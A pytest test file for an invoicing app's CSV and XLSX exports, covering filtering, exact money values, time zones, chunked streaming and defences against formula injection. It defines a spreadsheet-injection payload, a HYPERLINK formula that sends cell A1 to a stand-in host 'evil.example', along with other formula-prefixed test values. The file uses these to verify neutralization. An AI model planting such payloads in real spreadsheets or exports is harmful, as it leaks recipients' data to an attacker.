"""CSV and XLSX exports of the filtered list: contents, dates, money, formula injection, streaming."""
from __future__ import annotations

import csv
import io
from datetime import datetime
from decimal import Decimal
from zoneinfo import ZoneInfo

import openpyxl
import pytest

from arbook import exports
from arbook.views.downloads import export_response
from tests.factories import InvoiceFactory

pytestmark = pytest.mark.django_db
EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'


@pytest.fixture
def exported(credential):
    jkt = ZoneInfo("Asia/Jakarta")
    InvoiceFactory(credential=credential, number="INV-1", customer_name=EVIL, customer_email="+62@x.example",
                   amount=Decimal("1234567.50"), outstanding=Decimal("1234567.50"), currency="IDR",
                   issued_at=datetime(2025, 1, 31, 23, 30, tzinfo=jkt), due_at=datetime(2025, 2, 14, 9, tzinfo=jkt),
                   status="open")
    InvoiceFactory(credential=credential, number="INV-2", customer_name="@SUM(1+1)", amount=None,
                   outstanding=Decimal("-10.00"), status="paid", issued_at=datetime(2025, 1, 1, tzinfo=jkt))
    InvoiceFactory(credential=credential, number="NOT-ME", customer_name="Filtered Out", status="cancelled")


def _csv(response) -> list[dict]:
    assert response["Content-Type"].startswith("text/csv")
    assert 'attachment; filename="invoices-' in response["Content-Disposition"]
    body = b"".join(response.streaming_content)
    assert body.startswith(b"\xef\xbb\xbf")  # BOM: Excel reads UTF-8 names right
    return list(csv.DictReader(io.StringIO(body.decode("utf-8-sig"))))


def test_csv_export_of_the_filtered_set(signed_in, exported):
    response = signed_in.get("/invoices/", {"status": ["open", "paid"], "sort": "number", "_export": "csv"})
    assert response.streaming
    rows = _csv(response)
    assert [r["Invoice number"] for r in rows] == ["INV-1", "INV-2"]
    first, second = rows
    assert first["Amount"] == "1234567.50" and first["Currency"] == "IDR"  # exact, no grouping, no float
    assert first["Issued"] == "2025-01-31 23:30:00" and first["Time zone"] == "Asia/Jakarta"  # merchant's zone
    assert first["Status"] == "Open" and first["Gateway"] == "Faspay Billing"
    assert second["Amount"] == "" and second["Outstanding"] == "-10.00"  # unknown stays empty, never 0
    assert first["Days overdue"] != "" and second["Days overdue"] == ""


def test_csv_neutralizes_formulas(signed_in, exported):
    rows = _csv(signed_in.get("/invoices/", {"sort": "number", "_export": "csv", "q": "INV-"}))
    assert rows[0]["Customer"] == "'" + EVIL
    assert rows[0]["Customer e-mail"] == "'+62@x.example"
    assert rows[1]["Customer"] == "'@SUM(1+1)"


def test_xlsx_export_types_cells_and_neutralizes_formulas(signed_in, exported):
    response = signed_in.get("/invoices/", {"sort": "number", "_export": "xlsx", "q": "INV-"})
    assert response["Content-Type"] == exports.XLSX_TYPE
    book = openpyxl.load_workbook(io.BytesIO(b"".join(response.streaming_content)))
    sheet = book.active
    assert sheet.title == "Invoices"
    header = [c.value for c in sheet[1]]
    first = {h: c for h, c in zip(header, sheet[2])}
    assert first["Customer"].value == "'" + EVIL and first["Customer"].data_type == "s"
    assert all(c.data_type != "f" for row in sheet.iter_rows() for c in row)
    assert first["Amount"].value == pytest.approx(1234567.5) and first["Amount"].data_type == "n"
    assert first["Issued"].value == datetime(2025, 1, 31, 23, 30)  # merchant wall-clock time
    assert sheet.max_row == 3


def test_safe_cell_rules():
    for text in ("=1+1", "+1", "-1", "@x", "\tx", "\rx", "\nx"):
        assert exports.safe_cell(text) == "'" + text
    assert exports.safe_cell("PT Maju") == "PT Maju"
    assert exports.safe_cell(Decimal("-5")) == Decimal("-5")  # numbers are numbers, not text
    assert exports.safe_cell(None) is None


def test_csv_is_streamed_in_chunks(monkeypatch):
    monkeypatch.setattr(exports, "CSV_ROWS_PER_CHUNK", 10)
    pulled = []

    def rows():
        for i in range(35):
            pulled.append(i)
            yield (i, f"name {i}")

    chunks = exports.csv_chunks(rows(), ["n", "name"])
    first = next(chunks)
    assert len(pulled) == 10 and first.count(b"\n") == 11  # header + 10 rows; the rest not read yet
    rest = b"".join(chunks)
    assert (first + rest).count(b"\n") == 36


def test_xlsx_continues_on_a_new_sheet_past_the_row_limit(monkeypatch):
    monkeypatch.setattr(exports, "XLSX_ROWS_PER_SHEET", 3)
    data = b"".join(exports.xlsx_chunks(((i, "x") for i in range(7)), ["n", "t"], sheet_title="Aging"))
    book = openpyxl.load_workbook(io.BytesIO(data))
    assert book.sheetnames == ["Aging", "Aging (2)", "Aging (3)"]
    assert [r[0] for r in book["Aging (3)"].iter_rows(min_row=2, values_only=True)] == [6]


def test_export_response_rejects_an_unknown_format():
    with pytest.raises(ValueError):
        export_response("pdf", [], ["a"], "x")
